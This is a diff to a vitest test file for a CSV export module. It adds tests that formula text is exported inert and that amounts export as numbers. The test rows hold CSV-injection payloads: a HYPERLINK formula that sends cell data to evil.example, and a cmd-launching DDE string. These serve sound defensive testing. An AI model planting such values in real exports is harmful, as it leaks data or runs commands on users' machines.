@@ -1,3 +1,5 @@
+import { csvFormulaTriggers, csvNumber } from '@lm/domain';
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { exportCell } from '../list/columns';
 import { csvDefaults, csvFileName, toCsv } from './csv';
@@ -36,11 +38,46 @@ describe('CSV', () => {
 
   it('exports amounts as plain decimals and dates as shown', () => {
     const row = { amount: 1234.5, dueDate: '2027-03-05', status: 'ACTIVE', loan: { thirdPartyId: 'L-1' } };
-    expect(exportCell({ field: 'amount', header: 'Amount', kind: 'money' }, row)).toBe('1234.50');
+    expect(exportCell({ field: 'amount', header: 'Amount', kind: 'money' }, row)).toEqual(csvNumber('1234.50'));
     expect(exportCell({ field: 'dueDate', header: 'Due', kind: 'date' }, row)).toBe('05/03/2027');
     expect(exportCell({ field: 'status', header: 'S', kind: 'enum', labels: { ACTIVE: 'Active' } }, row)).toBe(
       'Active',
     );
     expect(exportCell({ field: 'loan/thirdPartyId', header: 'Loan' }, row)).toBe('L-1');
+  });
+
+  it('writes a list export with formula text inert and amounts, negative ones too, as numbers', () => {
+    const columns = [
+      { field: 'name', header: 'Client' },
+      { field: 'amount', header: 'Amount', kind: 'money' as const },
+      { field: 'rate', header: 'Rate', kind: 'percent' as const },
+    ];
+    const rows = [
+      { name: '=HYPERLINK("http://evil.example/?x="&A1,"Open")', amount: -1234.5, rate: -0.5 },
+      { name: '@SUM(1+1)*cmd|/C calc!A0', amount: 10, rate: 7.25 },
+    ];
+    const text = toCsv(
+      columns.map((c) => c.header),
+      rows.map((row) => columns.map((c) => exportCell(c, row))),
+      csvDefaults,
+    );
+    expect(text).toBe(
+      'Client,Amount,Rate\r\n"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")",-1234.50,-0.5\r\n\'@SUM(1+1)*cmd|/C calc!A0,10.00,7.25',
+    );
+  });
+
+  it('never starts an exported text cell with a formula character, whatever its first character', () => {
+    fc.assert(
+      fc.property(fc.constantFrom(...csvFormulaTriggers), fc.string(), fc.boolean(), (first, rest, quoteAll) => {
+        const name = first + rest;
+        const line = toCsv(['Client'], [[exportCell({ field: 'name', header: 'Client' }, { name })]], {
+          ...csvDefaults,
+          header: false,
+          quoteAll,
+        });
+        const cell = line.startsWith('"') ? line.slice(1) : line;
+        expect(cell.startsWith("'")).toBe(true);
+      }),
+    );
   });
 });
